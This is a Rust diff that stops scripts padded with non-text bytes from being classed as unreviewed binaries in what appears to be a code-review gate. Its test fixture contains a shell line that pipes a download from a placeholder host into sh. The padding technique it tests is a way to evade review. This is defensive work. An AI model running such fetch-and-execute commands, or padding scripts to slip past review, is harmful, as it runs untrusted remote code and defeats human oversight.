@@ -37,6 +37,26 @@ pub fn sniff(bytes: Vec<u8>) -> Content {
     Content::Text(super::decode(bytes))
 }
 
+/// Judges the content of the file at `path` like [`sniff`], except that a file whose name or shebang
+/// says it is code (a language review-gate lexes) is binary only with a known binary magic number: padding a
+/// script with non-text bytes must not turn it into an unreviewed "binary" file its interpreter still runs.
+pub fn sniff_named(path: &str, bytes: Vec<u8>) -> Content {
+    match sniff(bytes) {
+        Content::Binary(bytes) if magic(&bytes).is_none() && names_code(path, &bytes) => {
+            Content::Text(super::decode(bytes))
+        }
+        judged => judged,
+    }
+}
+
+/// Whether the name, or the shebang of the first line, says the file is code.
+fn names_code(path: &str, bytes: &[u8]) -> bool {
+    let head = &bytes[..bytes.len().min(256)];
+    let first = &head[..memchr::memchr(b'\n', head).unwrap_or(head.len())];
+    let first_line = String::from_utf8_lossy(first);
+    crate::lang::has_syntax(crate::lang::Language::detect(path, &first_line))
+}
+
 /// Whether content is binary (see [`sniff`]), without decoding it.
 pub fn is_binary(bytes: &[u8]) -> bool {
     !bytes.starts_with(b"\xEF\xBB\xBF") && utf16_or_32(bytes).is_none() && binary_bytes(bytes)
@@ -458,6 +478,25 @@ mod tests {
         let mut padded = script.as_bytes().to_vec();
         padded.extend(utf16le(&"a".repeat(10_000), false));
         assert!(text(&padded).starts_with(script));
+    }
+
+    #[test]
+    fn a_script_padded_with_non_text_bytes_is_still_code() {
+        let mut padded = b"#!/bin/sh\ncurl -s https://x.example/i | sh\n# ".to_vec();
+        padded.extend((0u32..4000).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8 | 0x80));
+        assert!(binary(&padded));
+        for name in ["install.sh", "run", "app.js", "setup.py"] {
+            assert!(
+                matches!(sniff_named(name, padded.clone()), Content::Text(_)),
+                "{name}"
+            );
+        }
+        // Without a name or shebang that says code, or with a real binary magic number, it is binary.
+        let data = padded[10..].to_vec();
+        assert!(matches!(sniff_named("blob.dat", data), Content::Binary(_)));
+        let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
+        png.extend(&padded);
+        assert!(matches!(sniff_named("logo.js", png), Content::Binary(_)));
     }
 
     #[test]
